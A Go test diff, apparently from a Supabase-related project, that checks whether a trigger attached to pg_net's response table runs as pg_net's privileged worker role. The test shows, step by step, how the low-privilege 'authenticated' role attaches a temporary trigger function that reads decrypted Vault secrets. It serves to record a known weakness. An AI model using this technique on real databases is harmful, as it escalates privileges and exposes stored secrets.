@@ -48,3 +48,81 @@ func TestVaultGrantsAsOnSupabase(t *testing.T) {
 	}
 	denied(t, conn, "postgres without EXECUTE on "+vaultDecrypt, `select decrypted_secret from vault.decrypted_secrets`)
 }
+
+// pg_net's worker connects as pg_net.username (hosted Supabase sets postgres, and so does localpg; pg_net's
+// default is the bootstrap superuser), and a trigger on its tables runs in the worker's session as that role,
+// whoever attached it. pg_net grants TRIGGER on its tables to PUBLIC, so a role with TEMP (here
+// authenticated, as Supabase grants it) attaches a temporary function of its own: the code runs in the
+// worker when the next answer is recorded, for any request of the database, and as postgres it reads Vault
+// (docs/security.md, what the project cannot fix). The real worker where pg_net is installed, the
+// stand-in's otherwise.
+func TestPgNetWorkerRunsAsPgNetUsername(t *testing.T) {
+	ctx := context.Background()
+	db := servedDatabase(t)
+	var want string
+	var super bool
+	if err := db.Conn.QueryRow(ctx, `select r.rolname::text, r.rolsuper from pg_roles r where r.rolname = `+workerRole).
+		Scan(&want, &super); err != nil {
+		t.Fatalf("the role pg_net.username names: %v", err)
+	}
+	fn := newFakeFunction(t)
+	storeSecrets(t, db.Conn, fn.srv.URL+"/scheduler", "the-secret-"+randomHex(t, 8))
+
+	seen := "public.pg_net_worker_seen_" + randomHex(t, 4)
+	if _, err := db.Admin.Exec(ctx, `create table `+seen+` (id bigint, session_role text, acting_role text, reads_vault boolean);
+		grant insert on `+seen+` to public`); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _, _ = db.Admin.Exec(context.Background(), `drop table if exists `+seen) })
+
+	// The attacker: a session as authenticated, which keeps TEMP. It stays open until the answer is in (its
+	// temporary function, and with it the trigger, goes when it ends).
+	attacker := connect(t, db.URL)
+	trig := "seen_" + randomHex(t, 3)
+	for _, q := range []string{
+		`set role authenticated`,
+		`create function pg_temp.seen() returns trigger language plpgsql as $f$
+		declare
+		  reads boolean := true;
+		begin
+		  begin
+		    perform count(decrypted_secret) from vault.decrypted_secrets;
+		  exception when insufficient_privilege then
+		    reads := false;
+		  end;
+		  insert into ` + seen + ` values (new.id, session_user, current_user, reads);
+		  return null;
+		end $f$`,
+		`create trigger ` + trig + ` after insert on net._http_response for each row execute function pg_temp.seen()`,
+	} {
+		if _, err := attacker.Exec(ctx, q); err != nil {
+			t.Fatalf("as authenticated: %.60s: %v", q, err)
+		}
+	}
+	t.Cleanup(func() {
+		_, _ = db.Admin.Exec(context.Background(), `drop trigger if exists `+trig+` on net._http_response`)
+	})
+
+	// Any request will do: the trigger is not the scheduler's business (invoke() refuses to queue while it
+	// is there).
+	var id int64
+	if err := db.Conn.QueryRow(ctx, `select net.http_post($1, '{}'::jsonb)`, fn.srv.URL+"/any").Scan(&id); err != nil {
+		t.Fatal(err)
+	}
+	awaitResponse(t, db, id)
+	var session, current string
+	var reads bool
+	if err := db.Admin.QueryRow(ctx, `select session_role, acting_role, reads_vault from `+seen+` where id = $1`, id).
+		Scan(&session, &current, &reads); err != nil {
+		t.Fatalf("the trigger did not run in pg_net's worker: %v", err)
+	}
+	if session != want || current != want {
+		t.Errorf("the worker's trigger ran with session user %s and current user %s, want %s (pg_net.username)", session, current, want)
+	}
+	// Whoever the worker is, the trigger had its rights: the superuser's, or on Supabase postgres's, Vault's reader.
+	if want == "postgres" || super {
+		if !reads {
+			t.Errorf("code in the worker, as %s, could not read vault.decrypted_secrets: docs/security.md says it can", want)
+		}
+	}
+}
